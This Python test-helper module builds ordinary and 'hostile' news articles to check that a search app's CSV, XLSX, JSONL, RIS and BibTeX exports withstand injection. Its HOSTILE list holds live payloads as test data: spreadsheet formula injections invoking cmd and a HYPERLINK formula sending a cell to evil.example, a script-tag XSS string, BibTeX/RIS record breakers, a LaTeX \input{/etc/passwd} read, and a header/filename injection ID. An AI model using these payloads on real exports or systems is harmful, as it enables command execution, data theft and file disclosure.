"""What the tests of exports share: an archive of many articles and of hostile ones, and each format
opened again by a library that others wrote."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import rispy
from bibtexparser.entrypoint import parse_string
from flask.testing import FlaskClient
from openpyxl.utils.escape import unescape

from indexer.engines.base import Engine
from indexer.engines.query import Search
from indexer.records import Article
from search_ui.answering.searching import understand
from search_ui.asking.params import SearchParams, read_params
from search_ui.taking.export import COLUMNS, exporting, row_of, wanted
from search_ui.taking.export_files import FORMATS
from tests.engines_samples import article
from tests.page_library import library
from tests.proxies import GONE, Answer

MANY = 6_000
RECORDS = "سجل"  # stands in each of the many, and in no hostile one
MADE = "2026-01-31T12:00:00Z"
# Each begins as a formula does, or ends or breaks what it is put into.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"انقر")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200f=1+1",
    "\uff1d1+1",
    "\x01\x08\x0b\x1f \ufffe]]></title><script>alert(1)</script>",
    'عنوان "بين" علامتين، وفاصلة, ونقطة; وسطر\nثان\r\nوثالث',
    "TY  - BOOK\nER  - \nTY  - NEWS",
    "}, note = {x}} @article{evil, title = {y}",
    "{ \\input{/etc/passwd} $x$ 100% #1 a_b ~ ^ & \\",
    "# رأس @comment{x} % تعليق",
    "نص\u202eمعكوس\u202c 👩‍👩‍👧 \U0001d4d0",
)
ID = 'x/../%2e"; Set-Cookie: a=b; filename=evil.exe,{}'


def hostile() -> list[Article]:
    """Articles that hold every hostile text in every field."""
    made = [
        article(
            f"hostile-{number:02}",
            f"{text}\n\nمتن {text}",
            title=text,
            deck=text,
            author=text,
            place=text,
            source=text,
            url=f"https://a.example/{{x}}?q={text}",
            published="2019-05",
            published_precision="month",
            published_evidence=text,
        )
        for number, text in enumerate(HOSTILE)
    ]
    return [*made, article(ID, "معرّف غريب", title="معرّف")]


def many(count: int = MANY) -> Iterator[Article]:
    """Articles of some length, each unlike the others, of every precision of date."""
    dates = ("2019-05-03T14:20", "2019-05-03", "2018-11", "2017", None)
    words = library()[0].body.split()
    for number in range(count):
        told = " ".join(f"{word} {number * 31 + place}" for place, word in enumerate(words))
        yield article(
            f"n{number:05}",
            f"سجل رقم {number}. " + "\n\n".join([told] * 5),
            title=f"خبر {number}",
            source=("ضفاف", "المرفأ الجديد", "صدى النخيل")[number % 3],
            author="ليلى حداد" if number % 2 else None,
            published=dates[number % 5],
            url=f"https://a.example/n/{number}",
            story=f"s{number // 2}" if number % 10 < 2 else None,
        )


def written(engine: Engine, suffix: str, **given: list[str]) -> bytes:
    """The file of a format, for parameters of a search."""
    with exporting(engine, read_params(given), MADE) as export:
        return b"".join(FORMATS[suffix].write(export))


def got(client: FlaskClient, path: str) -> bytes:
    """What the API sends for a path."""
    with client.get(path) as answer:
        assert answer.status_code == 200, answer.get_data(as_text=True)
        return bytes(answer.get_data())


class Pages:
    """A rule for a proxy: so many pages of a listing pass, then the node is gone."""

    def __init__(self, good: int) -> None:
        self.good = good

    def __call__(self, method: str, path: str, body: bytes) -> Answer | None:
        if path.startswith("/_search"):
            self.good -= 1
        return None if self.good >= 0 else (GONE, {})


def found(engine: Engine, params: SearchParams) -> list[dict[str, Any]]:
    """Every article of a search, page by page as readers get them, newest first."""
    documents: list[dict[str, Any]] = []
    after = None
    while True:
        query = wanted(understand(engine, params))
        page = engine.search(Search(query, sort="newest", size=500, after=after))
        documents += [dict(hit.document) for hit in page.hits]
        if len(page.hits) < 500:
            assert len(documents) == page.total
            return documents
        after = page.hits[-1].key


def rows(articles: list[dict[str, Any]]) -> list[list[str]]:
    return [row_of(one, "ar") for one in articles]


def read_csv(data: bytes) -> tuple[str, list[str], list[list[str]]]:
    """The first cell, the names of the columns, the rows."""
    assert data.startswith(b"\xef\xbb\xbf") and data.endswith(b"\r\n")
    facts, columns, *cells = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert len(facts) == 1 and columns == list(COLUMNS)
    return facts[0], columns, cells


def read_xlsx(data: bytes) -> tuple[dict[str, str], list[list[str]]]:
    """What the first sheet tells, and the rows of all others; each runs from right to left."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    about, *sheets = book.worksheets
    assert sheets and all(sheet.sheet_view.rightToLeft for sheet in book.worksheets)
    cells = []
    for sheet in sheets:
        assert sheet.freeze_panes == "A2"
        for line in sheet.iter_rows(min_row=2, max_col=len(COLUMNS)):
            assert all(cell.data_type in ("s", "n", "inlineStr") for cell in line)
            assert all(cell.data_type != "n" or cell.value is None for cell in line)
            cells.append([unescape(str(cell.value or "")) for cell in line])
    return {str(key): str(value or "") for key, value in about.values}, cells


def read_jsonl(data: bytes) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """The first object, and the articles."""
    facts, *articles = [json.loads(line) for line in data.decode().splitlines()]
    return facts["export"], articles


def read_ris(data: bytes) -> list[dict[str, Any]]:
    assert b"\n" not in data.replace(b"\r\n", b"")
    return list(rispy.loads(data.decode().replace("\r\n", "\n")))


def read_bibtex(data: bytes) -> Any:
    """A library of bibtexparser without a block that failed."""
    read = parse_string(data.decode())
    assert not read.failed_blocks
    return read


def untex(value: str) -> str:
    """What TeX would set: the signs that `search_ui.taking.references.tex` escapes."""
    named = {"backslash": "\\", "braceleft": "{", "braceright": "}"}
    named |= {"asciitilde": "~", "asciicircum": "^"}
    for name, sign in named.items():
        value = value.replace(f"\\text{name}{{}}", f"\x00{ord(sign)}\x00")
    for sign in "$&%#_":
        value = value.replace(f"\\{sign}", sign)
    parts = value.split("\x00")
    return "".join(chr(int(part)) if place % 2 else part for place, part in enumerate(parts))


def stored_file(folder: Path, text: str) -> Path:
    path = folder / "queries.txt"
    path.write_text(text, encoding="utf-8")
    return path
